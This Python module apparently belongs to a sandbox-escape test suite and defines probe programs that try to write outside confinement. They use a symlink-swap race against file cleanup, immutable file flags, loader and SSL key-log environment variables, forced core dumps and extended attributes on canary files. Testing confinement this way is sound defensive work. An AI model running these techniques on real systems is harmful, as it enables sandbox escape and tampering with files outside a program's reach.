"""Programs that write outside through somebody else's hands: the loader, the kernel, or whoever removes their files."""

# ruff: noqa: E501 - the programs are text

from __future__ import annotations

from attacks.model import Attack

GROUP = "writing"

ATTACKS = (
    Attack(
        "race against the removal",
        GROUP,
        "swaps folders with links to outside for as long as it lives, for whoever removes its files to follow",
        """
def attack():
    for number, target in enumerate(O["folders"]):
        os.makedirs(f"tree{number}/below")
        open(f"tree{number}/below/.keep", "w").close()
        os.symlink(target, f"link{number}")
        if os.fork() == 0:
            os.setsid()
            while True:
                if LIBC.renameat2(-100, f"tree{number}/below".encode(), -100, f"link{number}".encode(), 2):
                    os._exit(0)
""",
        limits={"cpu_s": 1, "wall_s": 3},
    ),
    Attack(
        "files that nobody may remove",
        GROUP,
        "makes files immutable and append-only, busy as mounts, swap and programs",
        """
import fcntl
def attack():
    for number, flag in enumerate((0x10, 0x20, 0x30)):
        os.makedirs(f"kept{number}", exist_ok=True)
        for path in (f"kept{number}/file", f"kept{number}"):
            end = os.open(path, os.O_RDONLY | (os.O_CREAT if path.endswith("file") else 0), 0o600)
            try:
                fcntl.ioctl(end, 0x40086602, struct.pack("=L", flag))
                print("held: flag", flag, path)
            except OSError as error:
                print("held:", path, error)
            os.close(end)
    tried("swap", lambda: system("swapon", os.path.abspath("kept0/file").encode(), 0))
""",
        then="import os\ndef attack():\n    assert not [name for name in os.listdir('.') if name.startswith('kept')]\n",
    ),
    Attack(
        "notes of the loader",
        GROUP,
        "starts programs whose loader, C library and interpreter write where the environment says",
        """
def attack():
    for top in O["folders"][:1]:
        more = {"LD_DEBUG": "files", "LD_DEBUG_OUTPUT": f"{top}/loader", "MALLOC_TRACE": f"{top}/malloc", "GMON_OUT_PREFIX": f"{top}/gmon",
                "LD_PROFILE": "libc.so.6", "LD_PROFILE_OUTPUT": top, "PYTHONPYCACHEPREFIX": top, "PYTHONDONTWRITEBYTECODE": "",
                "PYTHONHISTORY": f"{top}/history", "GCOV_PREFIX": top, "TMPDIR": top, "SSLKEYLOGFILE": f"{top}/keys", "PYTHONDUMPREFSFILE": f"{top}/refs"}
        done = subprocess.run([sys.executable, "-c", "import tempfile; tempfile.mkstemp()"], env={**os.environ, **more},
                              capture_output=True, timeout=5)
        print("held:", done.returncode)
""",
    ),
    Attack(
        "core file outside",
        GROUP,
        "crashes with a core file allowed, in folders outside and with a name for it",
        """
def attack():
    import resource
    for top in (*O["folders"], "."):
        child = os.fork()
        if child == 0:
            try:
                resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
                LIBC.prctl(4, 1)
                os.chdir(top)
                open(f"{top}/core", "w").close()
            except (OSError, ValueError):
                pass
            os.kill(os.getpid(), signal.SIGQUIT)
        _, status = os.waitpid(child, 0)
        if os.WCOREDUMP(status):
            out(f"a core in {top}")
""",
    ),
    Attack(
        "attributes of files",
        GROUP,
        "sets extended attributes, access lists and project numbers of files outside",
        """
import fcntl
def attack():
    for path in O["canaries"]:
        for name in ("user.x", "trusted.x", "security.x", "system.posix_acl_access"):
            tried(name, lambda: os.setxattr(path, name, struct.pack("<IHHIHHIHHI", 2, 1, 7, 0, 4, 7, 0, 32, 7, 0)))
        def project():
            with open(path) as file:
                fcntl.ioctl(file.fileno(), 0x401C5820, bytes(28))
        tried("project", project)
        tried("lease", lambda: fcntl.fcntl(os.open(path, os.O_RDONLY), 1024, fcntl.F_RDLCK))
""",
    ),
)
